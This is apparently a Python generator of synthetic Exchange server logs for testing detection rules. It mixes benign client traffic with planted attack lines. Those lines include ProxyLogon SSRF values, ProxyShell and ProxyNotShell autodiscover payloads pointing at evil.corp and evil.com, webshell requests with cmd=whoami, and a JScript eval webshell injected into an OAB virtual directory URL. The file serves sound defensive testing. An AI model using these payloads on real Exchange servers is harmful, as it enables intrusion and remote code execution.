            rng.choice(_EWS_APPS + _MAC_OUTLOOK),
            status,
            sub=sub,
            win32=win32,
            taken=taken,
        )
    if x < 0.80:  # OWA
        ref = f"https://{MAIL_HOST}/owa/"
        y = rng.random()
        ua = rng.choice(_BROWSERS)
        if y < 0.45:
            action = rng.choice(("GetItem", "FindItem", "FindConversation", "GetAccessTokenforResource"))
            q = _cafe(f"action={action}&UA=0&app=Mail&n={rng.randrange(1, 300)}")
            return _iis("POST", "/owa/service.svc", q, port, dom_user, cip, ua, 200, referer=ref, taken=taken)
        if y < 0.60:
            return _iis(
                "POST",
                "/owa/ev.owa2",
                _cafe("ns=PendingRequest&ev=PendingNotificationRequest&UA=0"),
                port,
                dom_user,
                cip,
                ua,
                200,
                referer=ref,
                taken=rng.choice((30000, 60000, 120000)),
            )
        if y < 0.70:
            ref = f"https://{MAIL_HOST}/owa/auth/logon.aspx?url=https%3a%2f%2f{MAIL_HOST}%2fowa%2f&reason=0"
            return _iis("GET", "/owa/", _cafe(), port, dom_user, cip, ua, 200, referer=ref, taken=taken)
        if port == 443 and y < 0.80:  # the logon page and its static resources (anonymous)
            res = rng.choice(
                (
                    "/owa/auth/logon.aspx",
                    f"/owa/auth/15.1.{BUILD[2]}/themes/resources/segoeui-regular.ttf",
                    f"/owa/auth/15.1.{BUILD[2]}/themes/resources/logon.css",
                    f"/owa/auth/15.1.{BUILD[2]}/scripts/premium/flogon.js",
                    f"/owa/auth/15.1.{BUILD[2]}/themes/resources/favicon.ico",
                    "/owa/auth.owa",
                )
            )
            q = "url=https%3a%2f%2fmail.contoso.com%2fowa%2f&reason=0" if res.endswith("logon.aspx") else ""
            if res == "/owa/auth.owa":
                return _iis(
                    "POST",
                    res,
                    "",
                    port,
                    u.name,
                    cip,
                    ua,
                    302,
                    referer=f"https://{MAIL_HOST}/owa/auth/logon.aspx",
                )
            return _iis("GET", res, q, port, "", cip, ua, 200, taken=rng.choice((0, 0, 1, 15)))
        return _iis(
            "GET",
            f"/owa/prem/15.1.{BUILD[2]}/scripts/"
            + rng.choice(("boot.worker.min.js", "microsoft.owa.mail.js", "owa.core.js")),
            "",
            port,
            dom_user,
            cip,
            ua,
            200,
            referer=ref,
            taken=taken,
        )
    if x < 0.86:
        if rng.random() < 0.25:  # modern Outlook and Outlook mobile: anonymous autodiscover.json
            proto = rng.choice(("Mapihttp", "ActiveSync", "Ews", "Rest", "AutodiscoverV1"))
            return _iis(
                "GET",
                f"/autodiscover/autodiscover.json/v1.0/{u.name}@{DOMAIN}",
                _cafe(f"Protocol={proto}&RedirectCount=1"),
                port,
                "",
                cip,
                rng.choice(
                    (
                        "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.13628; Pro)",
                        "Outlook-iOS-Android/1.0",
                    )
                ),
                200,
                taken=taken,
            )
        return _iis(
            "POST",
            rng.choice(("/Autodiscover/Autodiscover.xml", "/autodiscover/autodiscover.xml")),
            _cafe(),
            port,
            user,
            cip,
            rng.choice(_OUTLOOK),
            status,
            sub=sub,
            win32=win32,
            taken=taken,
        )
    if x < 0.91:
        method = rng.choice(("RPC_IN_DATA", "RPC_OUT_DATA"))
        return _iis(
            method,
            "/rpc/rpcproxy.dll",
            _cafe(f"{u.mailbox}@{DOMAIN}:6001"),
            port,
            user,
            cip,
            "MSRPC",
            status,
            sub=sub,
            win32=win32,
            taken=rng.choice((taken, 900000)),
        )
    if x < 0.95:
        return _iis(
            "GET",
            f"/OAB/{v.oab}/oab.xml",
            _cafe(),
            port,
            user,
            cip,
            rng.choice(_OUTLOOK),
            rng.choice((200, 304)) if not challenge else 401,
            taken=taken,
        )
    # users managing their inbox rules or out-of-office (OWA options, served by ECP)
    stem = rng.choice(
        (
            "/ecp/RulesEditor/InboxRules.svc/GetList",
            "/ecp/PersonalSettings/Accounts.svc/GetObject",
            "/ecp/Organize/AutomaticReplies.slab",
        )
    )
    return _iis(
        "POST",
        stem,
        _cafe(f"msExchEcpCanary={_hex(rng, 40)}"),
        port,
        dom_user,
        cip,
        rng.choice(_BROWSERS),
        200,
        referer=f"https://{MAIL_HOST}/ecp/?rfr=owa",
        taken=taken,
    )


_HEALTHCHECK_PATHS = (
    "/owa/healthcheck.htm",
    "/ecp/healthcheck.htm",
    "/EWS/healthcheck.htm",
    "/mapi/healthcheck.htm",
    "/OAB/healthcheck.htm",
    "/Autodiscover/healthcheck.htm",
    "/Microsoft-Server-ActiveSync/healthcheck.htm",
    "/rpc/healthcheck.htm",
)


def iis_front(rng: random.Random, v: Vocab) -> str:
    x = rng.random()
    if x < 0.12:  # load balancer health checks, every few seconds from two nodes
        return _iis("GET", rng.choice(_HEALTHCHECK_PATHS), "", 443, "", rng.choice(LB_IPS), "", 200, taken=0)
    if x < 0.17:  # Managed Availability probes through the front end
        hm = rng.choice(v.health)
        stem, ua = rng.choice(
            (
                ("/owa/", "AMProbe/Local/ClientAccess"),
                ("/ecp/", "AMProbe/Local/ClientAccess"),
                (
                    "/owa/auth/logon.aspx",
                    "Mozilla/4.0 (compatible; MSIE 12.0; Trident/7.0; rv:12.0; Windows NT 6.1; "
                    "MSEXCHMON; ACTIVEMONITORING; BACKLOOK)",
                ),
                ("/EWS/Exchange.asmx", f"Ews_Probe/Local (ExchangeServicesClient/{BUILD_HEADER})"),
                ("/Microsoft-Server-ActiveSync/default.eas", "TestActiveSyncConnectivity"),
                ("/autodiscover/autodiscover.xml", "AMProbe/Local/ClientAccess"),
            )
        )
        method = "POST" if stem.endswith((".asmx", ".eas", ".xml")) else "GET"
        return _iis(
            method, stem, _cafe(), 443, f"{NETBIOS}\\{hm}", SERVER_IP, ua, 200, taken=rng.randrange(3, 80)
        )
    if x < 0.19:  # internet noise that is not about Exchange webshells
        stem, status = rng.choice(
            (
                ("/", 200),
                ("/robots.txt", 404),
                ("/favicon.ico", 404),
                ("/.env", 404),
                ("/wp-login.php", 404),
                ("/remote/login", 404),
                ("/owa/auth/logon.aspx", 200),
                ("/iisstart.png", 200),
            )
        )
        ip = _ip(rng, (45, 89, 141, 185, 193))
        return _iis(
            "GET", stem, "", 443, "", ip, rng.choice(_SCANNER_UAS), status, taken=rng.randrange(0, 20)
        )
    return _iis_client(rng, v, 443)


def iis_back(rng: random.Random, v: Vocab) -> str:
    x = rng.random()
    if x < 0.22:  # remote PowerShell health probes (plaso iis10_edge_cases shape)
        hm = rng.choice(v.health)
        q = "clientApplication=ActiveMonitor;PSVersion=5.1.14393.4225"
        if rng.random() < 0.7:
            q += f"&sessionID=Version_15.1_(Build_2176.2)={_hex(rng, 48)}"
        return _iis(
            "POST",
            "/powershell",
            q,
            444,
            f"{NETBIOS}\\{hm}",
            "::1",
            "Microsoft WinRM Client",
            200,
            sip="::1",
            taken=rng.randrange(0, 200),
        )
    if x < 0.28:
        hm = rng.choice(v.health)
        stem, ua, q = rng.choice(
            (
                ("/mapi/emsmdb/", "MapiHttpClient", "useMailboxOfAuthenticatedUser=true"),
                (
                    "/ews/exchange.asmx",
                    f"Ews_Probe/Local (ExchangeServicesClient/{BUILD_HEADER})",
                    "&request_id={R}",
                ),
                ("/api/v1.0/$metadata", "Odata_PC_Probe/Local", "&request_id={R}"),
            )
        )
        return _iis(
            "POST" if "api" not in stem else "GET",
            stem,
            q,
            444,
            f"{NETBIOS}\\{hm}",
            "::1",
            ua,
            200,
            sip="::1",
            taken=rng.randrange(1, 120),
        )
    return _iis_client(rng, v, 444)


# ---------------------------------------------------------------------------------------------
# EWS log and ECP server log


def ews_log(rng: random.Random, v: Vocab) -> str:
    row = dict.fromkeys(EWS_FIELDS, "")
    probe = rng.random() < 0.05
    u = rng.choice(v.users)
    user = f"{rng.choice(v.health)}@{DOMAIN}" if probe else f"{u.name}@{DOMAIN}"
    action = rng.choice(
        (
            "GetItem",
            "FindItem",
            "SyncFolderItems",
            "GetUserAvailability",
            "GetFolder",
            "GetStreamingEvents",
            "CreateItem",
            "Subscribe",
            "ResolveNames",
        )
    )
    total = rng.choice((3, 5, 9, 15, 31, 62, 120, 480))
    r = rng.randrange
    row.update(
        DateTime="{T}",
        RequestId="{R}",
        MajorVersion=str(BUILD[0]),
        MinorVersion=str(BUILD[1]),
        BuildVersion=str(BUILD[2]),
        RevisionVersion=str(BUILD[3]),
        ClientRequestId=guid(rng) if rng.random() < 0.5 else "",
        AuthenticationType="Negotiate" if not probe else "Kerberos",
        IsAuthenticated="true",
        AuthenticatedUser=user,
        UserAgent=f"Ews_Probe/Local (ExchangeServicesClient/{BUILD_HEADER})"
        if probe
        else rng.choice(_EWS_APPS + _MAC_OUTLOOK + _OUTLOOK),
        VersionInfo="Exchange2013_SP1",
        ClientIpAddress=SERVER_IP if probe else _client_ip(rng, u),
        ServerHostName=PEER,
        FrontEndServer=f"{HOST}.{DOMAIN}",
        SoapAction=action,
        HttpStatus="200",
        RequestSize=str(r(300, 4000)),
        ResponseSize=str(r(400, 90000)),
        CorrelationGuid=guid(rng),
        PrimaryOrProxyServer=PEER,
        TaskType="LongRunning" if action == "GetStreamingEvents" else "",
        LocalMailboxCount="1",
        BeginBudgetConnections="1",
        EndBudgetConnections="1",
        BeginBudgetHangingConnections="0",
        EndBudgetHangingConnections="0",
        BeginBudgetAD="$null",
        EndBudgetAD="$null",
        BeginBudgetCAS=f"{r(0, 3000)}/{r(0, 200)}",
        EndBudgetCAS=f"{r(0, 3000)}/{r(0, 200)}",
        BeginBudgetRPC="$null",
        EndBudgetRPC="$null",
        BeginBudgetFindCount="0",
        EndBudgetFindCount="0",
        BeginBudgetSubscriptions="0",
        EndBudgetSubscriptions="0",
        MDBResource=f"MDB[{rng.choice(v.databases)}]",
        MDBHealth="Normal(0)",
        MDBHistoricalLoad="0",
        ThrottlingPolicy="DefaultThrottlingPolicy",
        ThrottlingDelay="0",
        ThrottlingRequestType="None",
        TotalDCRequestCount=str(r(0, 4)),
        TotalDCRequestLatency=str(r(0, 6)),
        TotalMBXRequestCount=str(r(1, 12)),
        TotalMBXRequestLatency=str(r(1, total + 2)),
        RecipientLookupLatency="0",
        ExchangePrincipalLatency=str(r(0, 3)),
        HttpPipelineLatency=str(r(0, 2)),
        CheckAccessCoreLatency=str(r(0, 2)),
        AuthModuleLatency="0",
        CallContextInitLatency=str(r(0, 3)),
        PreExecutionLatency=str(r(0, 4)),
        CoreExecutionLatency=str(total),
        TotalRequestTime=str(total + r(1, 6)),
        DetailedExchangePrincipalLatency=f"ADR={r(0, 3)};MBX={r(0, 3)};",
        GenericInfo=f"ActivityID={guid(rng)};MailboxTypeCacheSize={r(100, 9000)};"
        f"S:WLM.Cl=InternalMaintenance;S:ServiceTaskMetadata.ADCount=0;S:WLM.Type=Ews;S:WLM.Level=NonCritical;"
        f"S:FCI.MBXT=Primary;Dbl:BudgUse.T[]={r(1, 99)}.{r(0, 999)};I32:ATE.C[{HOST}]=1;",
        Puid="",
        StartTime="{T}",
        ProcessId=str(rng.choice((6084, 11232, 14940))),
        TimeInGC=str(r(0, 2)),
        StartTotalMemory=str(r(200_000_000, 900_000_000)),
        EndTotalMemory=str(r(200_000_000, 900_000_000)),
        StartGCCounts="4021/1733/312",
        EndGCCounts="4021/1733/312",
        TokenBasedThrottlingPolicy="",
        BudgetKey=f"Sid~{_DOMAIN_SID}-{u.sid}~Ews~false",
        CoinsCharged=str(r(0, 30)),
        CoinsChargedMethod="Cost",
        ResourceAccessed="Mailbox",
        WorkClassification="Unknown",
    )
    return csv_line([row[f] for f in EWS_FIELDS])


def ecp_log(rng: random.Random, v: Vocab) -> str:
    u = rng.choice(v.users)
    x = rng.random()
    if x < 0.08:  # an administrator changing a virtual directory the normal way
        vdir = rng.choice(("Owa", "Ecp", "ActiveSync", "WebServices", "Oab", "Mapi"))
        prop = rng.choice(("ExternalUrl", "InternalUrl"))
        path = {
            "Owa": "owa",
            "Ecp": "ecp",
            "ActiveSync": "Microsoft-Server-ActiveSync",
            "WebServices": "EWS/Exchange.asmx",
            "Oab": "OAB",
            "Mapi": "mapi",
        }[vdir]
        cmd = (
            f"Set-{vdir}VirtualDirectory.Identity='{HOST}\\{path.split('/')[0]} (Default Web Site)'."
            f"{prop}='https://{MAIL_HOST}/{path}'"
        )
        user = "adm.jansen"
    elif x < 0.15:
        cmd = rng.choice(
            ("Get-OwaVirtualDirectory", "Get-EcpVirtualDirectory", "Get-WebServicesVirtualDirectory")
        )
        user = "adm.bakker"
    else:
        cmd = rng.choice(
            (
                "Get-InboxRule",
                "Get-MailboxAutoReplyConfiguration",
                "Get-MailboxRegionalConfiguration",
                "Get-CalendarProcessing",
                "Get-Mailbox",
                "Set-MailboxAutoReplyConfiguration",
                "Get-MessageCategory",
                "Get-MailboxCalendarConfiguration",
            )
        )
        user = u.name
    url = rng.choice(
        (
            "/ecp/RulesEditor/InboxRules.svc/GetList",
            "/ecp/PersonalSettings/Accounts.svc/GetObject",
            "/ecp/DDI/DDIService.svc/GetObject",
            "/ecp/Organize/AutomaticReplies.slab",
        )
    )
    data = (
        f"S:TIME={rng.randrange(2, 400)};S:SID={_DOMAIN_SID}-{u.sid};S:CMD={cmd};S:REQID=;"
        f"S:URL={url}?msExchEcpCanary={_hex(rng, 40)};S:REFERRER=https://{MAIL_HOST}/ecp/?rfr=owa;S:EX=;"
        f"S:ACTID={guid(rng)};S:RS=0;S:BLD=15.1.2176.2;S:TNAME=<null>;S:TID=;S:USID={guid(rng)};"
        f"S:EDOID=;S:ACID=;S:UN={NETBIOS}\\{user}"
    )
    return csv_line(["{T}", HOST, "ECP.Request", data])


BENIGN = {
    "httpproxy/Mapi": hp_mapi,
    "httpproxy/Eas": hp_eas,
    "httpproxy/Ews": hp_ews,
    "httpproxy/Owa": hp_owa,
    "httpproxy/Autodiscover": hp_autodiscover,
    "httpproxy/PowerShell": hp_powershell,
    "httpproxy/RpcHttp": hp_rpchttp,
    "httpproxy/Oab": hp_oab,
    "httpproxy/Ecp": hp_ecp,
    "httpproxy/OwaCalendar": hp_owacalendar,
    "iis/W3SVC1": iis_front,
    "iis/W3SVC2": iis_back,
    "ews": ews_log,
    "ecp": ecp_log,
}


# ---------------------------------------------------------------------------------------------
# Attack lines


@dataclass(frozen=True, slots=True)
class Attack:
    """One kind of planted attack line."""

    name: str
    stream: str
    line: str
    """The template (same placeholders as benign lines)."""
    designed_for: tuple[str, ...]
    """Rule ids this line was written to trigger (the manifest uses what the rule set actually
    says; a difference is reported)."""
    note: str = ""


_ATTACKER = "203.0.113.37"
_ATTACKER2 = "198.51.100.21"
_HAFNIUM_UA = "ExchangeServicesClient/0.0.0.0"
_SSRF = "ServerInfo~a]@" + FQDN + ":444"


def _hp_attack(**fields: str) -> str:
    rng = random.Random(0)
    base = dict(
        Protocol="Ecp",
        UrlStem="/ecp/y.js",
        Method="POST",
        AuthenticationType="",
        IsAuthenticated="false",
        AuthenticatedUser="",
        UserAgent=_HAFNIUM_UA,
        ClientIpAddress=_ATTACKER,
        TargetServer=FQDN,
        RoutingType="",
        RoutingHint="",
    )
    base.update(fields)
    return _httpproxy(rng, **base)


ATTACKS: tuple[Attack, ...] = (
    Attack(
        "proxylogon-ssrf-autodiscover",
        "httpproxy/Ecp",
        _hp_attack(AnchorMailbox=f"{_SSRF}/autodiscover/autodiscover.xml?#", HttpStatus="200"),
        ("PL1-ssrf-autodiscover-attempt", "PL2-ssrf-static-resource"),
    ),
    Attack(
        "proxylogon-ssrf-mapi",
        "httpproxy/Ecp",
        _hp_attack(AnchorMailbox=f"{_SSRF}/mapi/emsmdb?#", HttpStatus="200", UrlStem="/ecp/x.js"),
        ("PL1-ssrf-backend-reached", "PL2-ssrf-static-resource"),
    ),
    Attack(
        "proxylogon-ssrf-proxylogon-ecp",
        "httpproxy/Ecp",
        _hp_attack(
            AnchorMailbox=f"{_SSRF}/ecp/proxyLogon.ecp?#~1941962753",
            BackEndCookie=f"Server~a]@{FQDN}:444/ecp/proxyLogon.ecp?#~1941962753",
            HttpStatus="241",
            UrlStem="/ecp/ab.js",
        ),
        ("PL1-ssrf-backend-reached", "PL1-ssrf-backendcookie", "PL2-ssrf-static-resource"),
    ),
    Attack(
        "proxylogon-reset-oab-vdir",
        "httpproxy/Ecp",
        _hp_attack(
            UrlStem="/ecp/DDI/DDIService.svc/SetObject",
            AnchorMailbox=f"{_SSRF}/ecp/DDI/DDIService.svc/SetObject?schema=ResetOABVirtualDirectory"
            "&msExchEcpCanary=X2B3c4D5e6F7g8H9i0J1k2L3m4N5o6P7q8R9s0T1u2V3w4X5y6Z7a8B9c0D1e2F3g4H5i6J7k8L9&a=~1942062522#",
            HttpStatus="200",
        ),
        ("PL8-ecp-reset-vdir-ssrf", "PL1-ssrf-backend-reached"),
    ),
    Attack(
        "proxylogon-ssrf-failed",
        "httpproxy/Ecp",
        _hp_attack(
            AnchorMailbox=f"{_SSRF}/ews/exchange.asmx?#",
            HttpStatus="500",
            UrlStem="/ecp/main.css",
            ClientIpAddress=_ATTACKER2,
            UserAgent="python-requests/2.25.1",
        ),
        ("PL1-ssrf-failed", "PL2-ssrf-static-resource"),
    ),
    Attack(
        "nmap-proxylogon-localhost-probe",
        "httpproxy/Ecp",
        _hp_attack(
            AnchorMailbox="ServerInfo~localhost~1942062522",
            HttpStatus="500",
            UrlStem="/ecp/ss.js",
            ClientIpAddress="192.0.2.80",
            UserAgent="Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
        ),
        ("PL1-ssrf-localhost-probe",),
    ),
    Attack(
        "proxylogon-rpc-empty-correlationid",
        "httpproxy/RpcHttp",
        _hp_attack(
            Protocol="RpcHttp",
            UrlStem="/rpc/",
            Method="GET",
            HttpStatus="200",
            UrlQuery="?&CorrelationID=<empty>;&RequestId=a3b8f1e2-5c4d-4e6f-9a0b-1c2d3e4f5a6b",
            UserAgent="python-requests/2.25.1",
        ),
        ("PL4-rpc-empty-correlationid",),
    ),
    Attack(
        "proxyshell-autodiscover-json",
        "httpproxy/Autodiscover",
        _hp_attack(
            Protocol="Autodiscover",
            UrlStem="/autodiscover/autodiscover.json",
            UrlQuery="?@evil.corp/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@evil.corp",
            AnchorMailbox="",
            HttpStatus="200",
            Method="POST",
            UserAgent="python-requests/2.26.0",
        ),
        (),
        "ProxyShell (CVE-2021-34473) path confusion; planted only if a rule detects it",
    ),
    Attack(
        "iis-post-static-ecp-js",
        "iis/W3SVC1",
        _iis("POST", "/ecp/y.js", _cafe(), 443, "", _ATTACKER, _HAFNIUM_UA, 200, taken=41),
        ("PL3-iis-post-static-file", "PL3-iis-hafnium-user-agent"),
    ),
    Attack(
        "iis-post-static-owa-theme",
        "iis/W3SVC1",
        _iis(
            "POST",
            "/owa/auth/Current/themes/resources/logon.css",
            _cafe(),
            443,
            "",
            _ATTACKER2,
            "python-requests/2.25.1",
            200,
            taken=12,
        ),
        ("PL3-iis-post-static-file", "PL3-iis-hafnium-user-agent"),
    ),
    Attack(
        "iis-webshell-aspnet-client",
        "iis/W3SVC1",
        _iis(
            "POST",
            "/aspnet_client/system_web/log.aspx",
            "",
            443,
            "",
            _ATTACKER,
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:86.0) Gecko/20100101 Firefox/86.0",
            200,
            taken=156,
        ),
        ("WA2-iis-aspnet-client-page",),
    ),
    Attack(
        "iis-webshell-antsword",
        "iis/W3SVC1",
        _iis("POST", "/aspnet_client/shell.aspx", "", 443, "", _ATTACKER2, "antSword/v2.1", 200, taken=87),
        ("WA2-iis-aspnet-client-page", "PL3-iis-hafnium-user-agent"),
    ),
    Attack(
        "iis-webshell-owa-auth-lookalike",
        "iis/W3SVC1",
        _iis(
            "POST",
            "/owa/auth/RedirSuiteServerProxy.aspx",
            _cafe(),
            443,
            "",
            _ATTACKER,
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
            "Chrome/65.0.2345 Safari/537.36",
            200,
            taken=133,
        ),
        ("WA1-iis-owa-auth-unknown-page",),
    ),
    Attack(
        "iis-webshell-oab",
        "iis/W3SVC1",
        _iis("GET", "/OAB/log.aspx", "cmd=whoami", 443, "", _ATTACKER, "curl/7.68.0", 200, taken=48),
        ("WA3-iis-ecp-auth-oab-unknown-page",),
    ),
    Attack(
        "iis-webshell-scan",
        "iis/W3SVC1",
        _iis(
            "GET",
            "/aspnet_client/discover.aspx",
            "",
            443,
            "",
            "192.0.2.200",
            "Mozilla/5.0 zgrab/0.x",
            404,
            win32=2,
            taken=0,
        ),
        ("WA4-iis-webshell-probe",),
    ),
    Attack(
        "iis-proxyshell-autodiscover-json",
        "iis/W3SVC1",
        _iis(
            "GET",
            "/autodiscover/autodiscover.json",
            "@evil.corp/owa/?&Email=autodiscover/autodiscover.json%3F@evil.corp",
            443,
            "",
            _ATTACKER2,
            "python-requests/2.26.0",
            302,
            taken=21,
        ),
        (),
        "ProxyShell (CVE-2021-34473); planted only if a rule detects it",
    ),
    Attack(
        "iis-proxyshell-powershell-rps-cat",
        "iis/W3SVC1",
        _iis(
            "GET",
            "/autodiscover/autodiscover.json",
            "@evil.corp/powershell/?X-Rps-CAT=VgEAVAdXaW5kb3dzQwBBCEtlcmJlcm9zTBZBZG1pbmlzdHJhdG9yQGNvbnRvc28uY29t"
            "&Email=autodiscover/autodiscover.json%3F@evil.corp" + _cafe(),
            443,
            "",
            _ATTACKER2,
            "python-requests/2.26.0",
            200,
            taken=311,
        ),
        (),
        "ProxyShell (CVE-2021-34473/34523) remote PowerShell; planted only if a rule detects it",
    ),
    Attack(
        "iis-proxynotshell-powershell",
        "iis/W3SVC1",
        _iis(
            "POST",
            "/autodiscover/autodiscover.json",
            "@evil.com/powershell/?&Email=autodiscover/autodiscover.json%3F@evil.com" + _cafe(),
            443,
            "",
            _ATTACKER,
            "python-requests/2.28.1",
            200,
            taken=64,
        ),
        (),
        "ProxyNotShell (CVE-2022-41040); planted only if a rule detects it",
    ),
    Attack(
        "iis-backend-reset-oab-vdir",
        "iis/W3SVC2",
        _iis(
            "POST",
            "/ecp/DDI/DDIService.svc/SetObject",
            "schema=ResetOABVirtualDirectory&msExchEcpCanary=X2B3c4D5e6F7g8H9i0J1k2L3m4N5o6P7q8R9s0T1u2V3w4X5y6Z7a8B9c0D1e2F3g4H5i6J7k8L9"
            + _cafe(),
            444,
            f"{NETBIOS}\\{HOST}$",
            SERVER_IP,
            _HAFNIUM_UA,
            200,
            sip=SERVER_IP,
            taken=904,
        ),
        ("PL8-iis-reset-vdir", "PL3-iis-hafnium-user-agent"),
    ),
    Attack(
        "ecp-oab-vdir-script-url",
        "ecp",
        csv_line(
            [
                "{T}",
                HOST,
                "ECP.Request",
                "S:TIME=1632;S:SID=S-1-5-18;S:CMD=Set-OabVirtualDirectory.ExternalUrl='http://f/"
                '<script language="JScript" runat="server">function Page_Load(){eval(Request["klk123456"],'
                "\"unsafe\");}</script>'.Identity='"
                f"{guid(random.Random(5))}';S:REQID=;S:URL=/ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory;"
                f"S:REFERRER=;S:EX=;S:ACTID={guid(random.Random(6))};S:RS=0;S:BLD=15.1.2176.2;S:TNAME=<null>;S:TID=;"
                f"S:USID=;S:EDOID=;S:ACID=;S:UN={NETBIOS}\\{HOST}$",
            ]
        ),
        ("PL7-ecp-vdir-script-url",),
    ),
)
